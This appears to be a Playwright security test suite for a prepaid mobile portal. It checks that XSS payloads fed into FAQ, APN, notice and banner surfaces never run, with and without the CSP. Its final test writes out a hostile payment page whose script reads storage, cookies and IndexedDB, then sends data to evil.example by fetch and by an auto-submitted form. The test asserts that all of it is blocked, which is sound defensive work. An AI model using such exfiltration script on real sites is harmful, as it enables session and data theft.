import type { BrowserContext, Dialog, Page, Route } from '@playwright/test';
import * as v from 'valibot';
import { ApnSettings, BannerList, FaqList, MakePaymentResponse, NoticeList } from '@/contract';
import { test, expect, type SecurityWatch } from './fixtures';
import { DEMO_PASSWORD, texts } from './locale';
import { logIn } from './flows';
import { activeCustomer } from './customers';
import { HTML_PAYLOADS, URL_PAYLOADS, type Payload } from './xss/corpus';
import { inspectRendered, type DomFinding } from './xss/inspect';

/**
 * Every place that renders server HTML gets the whole XSS corpus at once (one render per
 * surface, one payload per item), answered by page.route in the contract's shapes. Nothing may run
 * — an exposed xss(), alert(), a beacon request or a global — and nothing that could run may be left
 * in the DOM. Each surface runs twice: under the portal's CSP, and with the CSP bypassed, so the
 * sanitiser alone is proven and not only the policy behind it.
 */
const t = texts('en');
const ALL = [...HTML_PAYLOADS, ...URL_PAYLOADS];
const byId = new Map(ALL.map((p) => [p.id, p]));
/** A rich, harmless answer first: proof the surface renders HTML at all, links made safe. */
const CONTROL = '<p><strong>Benign</strong> answer with <a href="https://example.com/help">a help link</a>.</p>';
/** Matches the API path in any language, with or without a query. */
const apiPath = (path: string) => (url: URL) => new RegExp(`^/api/(ja|en|zh|tw|vi)/${path}$`).test(url.pathname);
/** The portal's own <details> (FAQ items, notices), not those a payload may bring along. */
const ITEMS = 'details:not(details *)';
const urlFor = (i: number) => URL_PAYLOADS[i % URL_PAYLOADS.length]!.text;

interface Hit {
  how: string;
  id: number;
}

/** Every way a payload can tell us it ran; armed before the first navigation. */
async function armMarkers(context: BrowserContext, page: Page) {
  const hits: Hit[] = [];
  await context.exposeBinding('xss', (_source, id: unknown) => hits.push({ how: 'called xss()', id: Number(id) }));
  const onDialog = (dialog: Dialog) => {
    hits.push({ how: `opened a ${dialog.type()} dialog`, id: Number(dialog.message()) });
    void dialog.dismiss();
  };
  page.on('dialog', onDialog);
  context.on('page', (opened) => opened.on('dialog', onDialog));
  await context.route('**/xss-beacon/**', (route) => {
    hits.push({
      how: `requested ${new URL(route.request().url()).pathname}`,
      id: Number(/\/xss-beacon\/(\d+)/.exec(route.request().url())?.[1]),
    });
    return route.fulfill({ status: 204 });
  });
  return {
    async all(): Promise<Hit[]> {
      const global = await page.evaluate(() => (window as { __xss?: unknown }).__xss).catch(() => undefined);
      return global === undefined ? hits : [...hits, { how: 'set window.__xss', id: Number(global) }];
    },
  };
}

function describe(hit: Hit): string {
  const payload = byId.get(hit.id);
  return `${hit.how} — payload #${hit.id} ${payload ? `(${payload.source}) ${JSON.stringify(payload.text)}` : '(unknown)'}`;
}

/** What each container holds: a payload, or a label for the rest (the control item). */
type Item = Payload | string;
const label = (item: Item | undefined) =>
  item === undefined ? '(no item)' : typeof item === 'string' ? item : `payload #${item.id} (${item.source}) ${JSON.stringify(item.text)}`;

function attribute(findings: DomFinding[], items: Item[]): string[] {
  return findings.map(({ index, problem }) => (index < 0 ? `page: ${problem}` : `${label(items[index])} → ${problem}`));
}

async function fulfilJson(route: Route, schema: v.GenericSchema, body: unknown) {
  // The real response shape, checked: a typo here would otherwise test nothing.
  await route.fulfill({ json: v.parse(schema, body) });
}

/** Lets handlers, image errors, animations and autofocus fire, then reads the DOM and the markers. */
async function verdict(
  page: Page,
  security: SecurityWatch,
  markers: Awaited<ReturnType<typeof armMarkers>>,
  containers: string,
  items: Item[],
) {
  await page.waitForLoadState('networkidle');
  await page.waitForTimeout(750);
  const rendered = await page.evaluate(inspectRendered, { containers, appGlobals: ['CPToken', 'ThreeDSAdapter', 'xss'] });
  expect(rendered.count, `${containers}: one container per item`).toBe(items.length);
  const executed = (await markers.all()).map(describe);
  expect(executed, 'payloads that ran').toEqual([]);
  expect(attribute(rendered.findings, items), 'what could still run').toEqual([]);
  dropSanitiserParseReports(security);
}

/**
 * Under the CSP, Chromium checks the policy even while the sanitiser parses a payload in its inert
 * document (DOMParser), and reports every handler and inline style it meets there, though nothing
 * can run in that document. Those reports come from the sanitiser's own chunk and are dropped; any
 * other — from the DOM React builds, from a frame — still fails the test in the fixture's teardown.
 */
const SANITISER_CHUNK = /\/assets\/safe-html-[\w-]+\.js/;
function dropSanitiserParseReports(security: SecurityWatch) {
  security.csp.forget((v) => SANITISER_CHUNK.test(v.page) || SANITISER_CHUNK.test(v.text));
}

async function expectControlRendered(page: Page) {
  const link = page.getByRole('link', { name: 'a help link' });
  await expect(page.getByText('Benign', { exact: true })).toBeVisible();
  await expect(link).toHaveAttribute('href', 'https://example.com/help');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(link).toHaveAttribute('target', '_blank');
}

async function signIn(page: Page) {
  await logIn(page, t, 'prepaid@demo.test', DEMO_PASSWORD);
  await expect(page).toHaveURL(/\/topPage$/);
}

const MODES = [
  { title: 'under the CSP', bypassCSP: false },
  { title: 'with the CSP bypassed (the sanitiser alone)', bypassCSP: true },
];

for (const mode of MODES) {
  test.describe(`XSS corpus ${mode.title}`, () => {
    test.use({ bypassCSP: mode.bypassCSP });

    test.beforeEach(async ({ page }) => {
      // The mode is real: inline script runs only when the policy is bypassed.
      await page.goto('/landingPage');
      const header = (await page.request.get('/landingPage')).headers()['content-security-policy'] ?? '';
      expect(header).toContain("script-src 'self'");
      if (mode.bypassCSP) {
        await page.evaluate(() => {
          const script = document.createElement('script');
          script.textContent = 'window.__inline = 1';
          document.head.append(script);
        });
        expect(await page.evaluate(() => (window as { __inline?: number }).__inline)).toBe(1);
      }
    });

    test(`FAQ answers: ${HTML_PAYLOADS.length} payloads`, async ({ page, context, security }) => {
      const markers = await armMarkers(context, page);
      await context.route(apiPath('faq/list'), (route) =>
        fulfilJson(route, FaqList, {
          faqs: [
            { id: 0, question: 'Control', answer: CONTROL },
            ...HTML_PAYLOADS.map((p) => ({ id: p.id, question: `Payload ${p.id}`, answer: p.text })),
          ],
        }),
      );
      await signIn(page);
      await page.goto('/faq');
      await expect(page.locator(ITEMS)).toHaveCount(HTML_PAYLOADS.length + 1);
      await page.locator('details').evaluateAll((all) => all.forEach((d) => ((d as HTMLDetailsElement).open = true)));
      await verdict(page, security, markers, `${ITEMS} > div`, ['control item', ...HTML_PAYLOADS]);
      await expectControlRendered(page);
    });

    test(`APN instructions: ${HTML_PAYLOADS.length} steps, their pictures and the video link`, async ({ page, context, security }) => {
      const markers = await armMarkers(context, page);
      await context.route(apiPath('apn/prepaid'), (route) =>
        fulfilJson(route, ApnSettings, {
          name: 'Portal APN',
          apn: 'portal.example',
          username: 'user',
          password: 'pass',
          authentication_type: 'CHAP',
          ip: 'IPv4',
          type_of_apn: 'default',
          video: URL_PAYLOADS[0]!.text,
          // The pictures' alt texts carry the payloads too, as far as the contract lets them.
          instructions: [
            { instruction: CONTROL, image: null },
            ...HTML_PAYLOADS.map((p, i) => ({ instruction: p.text, image: urlFor(i), image_alt: p.text.slice(0, 300) })),
          ],
        }),
      );
      await signIn(page);
      await page.goto('/apn-configuration/1');
      const steps = '[aria-labelledby="apn-steps-title"] ol > li';
      await expect(page.locator(steps)).toHaveCount(HTML_PAYLOADS.length + 1);
      await verdict(page, security, markers, steps, ['control item', ...HTML_PAYLOADS]);
      await expectControlRendered(page);
      // The video link stands apart from the steps.
      const video = await page
        .locator('[aria-labelledby="apn-steps-title"] > p a')
        .evaluateAll((links) => links.map((a) => a.getAttribute('href')));
      expect(
        video.filter((href) => href !== null && /^\s*(javascript|vbscript|data):/i.test(href.replace(/[\u0000-\u0020]/g, ''))),
        'video link',
      ).toEqual([]);
    });

    test(`notices on the top page: ${HTML_PAYLOADS.length} bodies`, async ({ page, context, security }) => {
      const markers = await armMarkers(context, page);
      const published = Math.floor(Date.now() / 1000);
      await context.route(apiPath('prepaid_users/get_notice'), (route) =>
        fulfilJson(route, NoticeList, {
          notices: [
            { id: 0, title: 'Control', body: CONTROL, published_at: published },
            ...HTML_PAYLOADS.map((p) => ({ id: p.id, title: `Payload ${p.id}`, body: p.text, published_at: published })),
          ],
        }),
      );
      await signIn(page);
      await expect(page.locator(ITEMS)).toHaveCount(HTML_PAYLOADS.length + 1);
      await page.locator('details').evaluateAll((all) => all.forEach((d) => ((d as HTMLDetailsElement).open = true)));
      await verdict(page, security, markers, `${ITEMS} > div`, ['control item', ...HTML_PAYLOADS]);
      await expectControlRendered(page);
    });

    test(`campaign banner: ${HTML_PAYLOADS.length} payloads as title and alt with dangerous links, then ${URL_PAYLOADS.length} dangerous pictures`, async ({
      page,
      context,
      security,
    }) => {
      const markers = await armMarkers(context, page);
      const picture = '/api/media/banner/five-g.svg';
      const control = { id: 0, title: 'Control', alt: 'Control banner', image: picture, link: 'https://example.com/campaign' };
      let banners: v.InferInput<typeof BannerList>['banners'] = [
        control,
        ...HTML_PAYLOADS.map((p, i) => ({ id: p.id, title: p.text, alt: p.text, image: picture, link: urlFor(i) })),
      ];
      await context.route(apiPath('prepaid_users/banner'), (route) => fulfilJson(route, BannerList, { banners }));
      await signIn(page);
      const pictures = page.locator('img[width="640"][height="200"]');
      await expect(pictures).toHaveCount(HTML_PAYLOADS.length + 1);
      await expect(page.getByRole('link', { name: 'Control banner' })).toHaveAttribute('href', 'https://example.com/campaign');
      await verdict(page, security, markers, 'section:has(> * > img[width="640"]) > *', ['control banner', ...HTML_PAYLOADS]);

      // Every dangerous URL as the picture: no such picture may reach the DOM as a script or data URL.
      banners = [
        control,
        ...URL_PAYLOADS.map((p) => ({ id: p.id, title: 'Bad picture', alt: `Bad picture ${p.id}`, image: p.text, link: null })),
      ];
      await page.reload();
      await expect(page.getByRole('link', { name: 'Control banner' })).toBeVisible();
      await verdict(page, security, markers, 'section:has(> * > img[width="640"])', [`banners with the pictures of urls.txt`]);
    });
  });
}

/**
 * A hostile or compromised provider's payment HTML (decision 0059): it runs, top level, as the spec
 * wants the provider's page to run, but in a document of its own with an opaque origin. Whatever
 * its scripts try, they cannot read or write the portal's storage, IndexedDB (where the session and
 * its key live) or cookies, call the API with them, open a window, or send anything anywhere but the
 * provider's configured origins. Under the CSP only: the sandbox IS the policy, and there is no
 * sanitiser behind it to prove alone.
 */
test("provider payment HTML runs in a document of its own that cannot reach the portal's storage or session", async ({
  page,
  context,
  request,
  api,
  security,
}) => {
  test.setTimeout(120_000);
  const beacons: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    beacons.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  const HOSTILE = `<!doctype html><title>Wallet</title><pre id="out"></pre>
<script>
const out = {};
const probe = (name, f) => { try { out[name] = String(f()); } catch (e) { out[name] = 'denied: ' + e.name; } };
probe('origin', () => self.origin);
probe('localStorage', () => localStorage.getItem('i18nextLng'));
probe('setItem', () => localStorage.setItem('stolen', '1'));
probe('sessionStorage', () => sessionStorage.length);
probe('cookie', () => document.cookie);
probe('open', () => window.open('https://evil.example/popup'));
probe('opener', () => window.opener);
(async () => {
  out.indexedDB = await new Promise((resolve) => {
    try {
      const req = indexedDB.open('portal-session');
      req.onsuccess = () => resolve('opened: ' + Array.from(req.result.objectStoreNames).join(','));
      req.onerror = () => resolve('denied: ' + (req.error && req.error.name));
    } catch (e) { resolve('denied: ' + e.name); }
  });
  out.api = await fetch('/api/en/prepaid_users/profile', { credentials: 'include' }).then((r) => 'status ' + r.status, (e) => 'denied: ' + e.name);
  out.beacon = await fetch('https://evil.example/beacon?' + encodeURIComponent(out.localStorage)).then(() => 'sent', (e) => 'denied: ' + e.name);
  document.getElementById('out').textContent = JSON.stringify(out);
})();
</script>
<img src="https://evil.example/pixel.gif" alt="">
<form id="steal" method="post" action="https://evil.example/steal"><input name="x" value="y"></form>
<script>document.getElementById('steal').submit();</script>`;
  await context.route(apiPath('payments'), async (route) => {
    if (route.request().method() !== 'POST') return route.fallback();
    const real = v.parse(MakePaymentResponse, await (await route.fetch()).json());
    await fulfilJson(route, MakePaymentResponse, { ...real, html_content: HOSTILE });
  });
  const who = await activeCustomer(request, api);
  await logIn(page, t, who.email, who.password);
  await expect(page).toHaveURL(/\/topPage$/);
  const origin = new URL(page.url()).origin;
  await page.goto('/data-recharge');
  await page.locator('label:has(input[type=radio])').first().click();
  await page.getByRole('button', { name: t.recharge.purchase }).click();
  await page.getByRole('button', { name: t.payment.methods.alipay }).click();
  await page.getByRole('region', { name: t.payment.methods.alipay }).getByRole('button', { name: t.payment.register }).click();
  await page.getByRole('button', { name: t.payment.purchase }).click();

  // The provider's document: top level in this tab (no frame), its scripts ran.
  const out = page.locator('#out');
  await expect(out).not.toBeEmpty({ timeout: 20_000 });
  expect(page.frames()).toHaveLength(1);
  expect(page.url()).toBe(`${origin}/payment-external`);
  const seen = JSON.parse((await out.textContent())!) as Record<string, string>;
  expect(seen.origin, "an opaque origin, not the portal's").toBe('null');
  for (const what of ['localStorage', 'setItem', 'sessionStorage', 'cookie']) expect(seen[what], what).toMatch(/^denied: SecurityError/);
  expect(seen.indexedDB, 'IndexedDB, where the session and its key live').toMatch(/^denied/);
  expect(seen.api, "the API with the portal's credentials").toMatch(/^denied/);
  expect(seen.beacon).toMatch(/^denied/);
  expect([seen.open, seen.opener]).toEqual(['null', 'null']);
  expect(beacons, 'requests that left for another origin').toEqual([]);
  expect(context.pages()).toHaveLength(1);
  // Its policy blocked what it tried; those were provoked on purpose.
  const provoked = (found: { page: string; text: string }) =>
    found.page.startsWith(`${origin}/payment-external`) || /evil\.example/.test(found.text);
  expect(security.csp.list().filter(provoked).length).toBeGreaterThanOrEqual(3);
  security.csp.forget(provoked);

  // Back in the portal: signed in as before, nothing written into its storage.
  await page.goBack();
  await expect(page).toHaveURL(/\/payment-external\?paymentId=/);
  await expect(page.getByRole('link', { name: t.payment.external.toOrder })).toBeVisible();
  expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBeNull();
});
